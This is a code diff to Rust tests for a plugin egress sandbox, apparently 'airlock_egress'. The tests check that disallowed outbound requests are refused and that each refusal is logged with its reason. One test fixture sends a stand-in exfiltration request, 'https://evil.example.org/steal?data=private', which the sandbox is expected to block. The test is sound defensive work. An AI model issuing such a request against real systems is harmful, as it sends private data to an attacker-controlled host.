@@ -20,7 +20,7 @@ const LOCAL: &[&[&str]] = &[&["127.0.0.1"]];
 const LONG: Duration = Duration::from_secs(20);
 
 /// Opens a session with rules in which `PORT` stands for the server's port. `names` resolves the
-/// names.
+/// names. The requested rules are those of one request, `web`.
 fn session_with(names: &Arc<Names>, server: &Server, granted: &[&str], bounds: Bounds) -> Session {
     session(names, server, None, granted, Vec::new(), bounds, LONG)
 }
@@ -34,9 +34,8 @@ fn session(
     bounds: Bounds,
     time: Duration,
 ) -> Session {
-    let policy =
-        Policy::new(requested.map(|texts| rules(server, texts)), rules(server, granted), bounds)
-            .unwrap();
+    let requested = requested.map(|texts| [("web".to_owned(), rules(server, texts))].into());
+    let policy = Policy::new(requested, rules(server, granted), bounds).unwrap();
     let egress = Egress::with_resolver(names.clone()).unwrap();
     egress.outlet("plugin", policy, Credentials::new(credentials).unwrap()).session(
         &Tenant::ANONYMOUS,
@@ -381,19 +380,19 @@ async fn transport_failures_are_reported_by_kind_and_without_addresses() {
 }
 
 #[tokio::test]
-async fn a_missing_rule_is_logged_and_not_reported_to_the_guest() {
+async fn a_missing_rule_is_logged_where_it_would_help_and_not_reported_to_the_guest() {
     let log = Log::default();
     let subscriber =
         tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
     let _here = tracing::subscriber::set_default(subscriber);
     let server = Server::start(|_| ok("")).await;
     let names = Names::new(&[("x.example.com", &[&["10.1.2.3"]])]);
-    let requested = ["http://*.example.com:PORT GET /**"];
+    let requested = ["http://*.example.com:PORT GET /a/**,/b"];
     let session = session(
         &names,
         &server,
         Some(&requested),
-        &["http://x.example.com:PORT GET,POST /**"],
+        &["http://x.example.com:PORT GET,POST /a/**,/c"],
         Vec::new(),
         Bounds::PLUGIN,
         LONG,
@@ -402,15 +401,19 @@ async fn a_missing_rule_is_logged_and_not_reported_to_the_guest() {
     for request in [
         get("https://evil.example.org/steal?data=private"),
         post(&server.url("x.example.com", "/a*b"), ""),
-        get(&server.url("x.example.com", "/")),
+        get(&server.url("x.example.com", "/c")),
+        get(&server.url("x.example.com", "/b")),
+        get(&server.url("x.example.com", "/a/")),
     ] {
         told.push(session.send(request).await.expect_err("it is refused").to_string());
     }
-    assert_eq!(told, ["the request is not permitted"; 3]);
+    assert_eq!(told, ["the request is not permitted"; 5]);
     let port = server.address.port().to_string();
     insta::assert_snapshot!(log.text().replace(&port, "PORT"), @r#"
-     WARN airlock_egress::exchange: outbound request refused caller=plugin host=evil.example.org reason=the operator does not grant this missing_rule=https://evil.example.org GET /steal
-     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the manifest does not request this missing_rule=http://x.example.com:PORT POST /a%2Ab
+     WARN airlock_egress::exchange: outbound request refused caller=plugin host=evil.example.org reason=the manifest does not request this request=https://evil.example.org GET /steal
+     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the plugin's own request.http.web excludes the method by its `methods` request=http://x.example.com:PORT POST /a%2Ab
+     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the plugin's own request.http.web excludes the path by its `url` or `paths` request=http://x.example.com:PORT GET /c
+     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the operator does not grant this missing_rule=http://x.example.com:PORT GET /b
      WARN airlock_egress::client: outbound request refused caller="plugin" host=x.example.com address=10.1.2.3 reason=x.example.com resolves to 10.1.2.3, which is private; to permit it, set `private` in the request of the manifest and in the grant
     "#);
 }
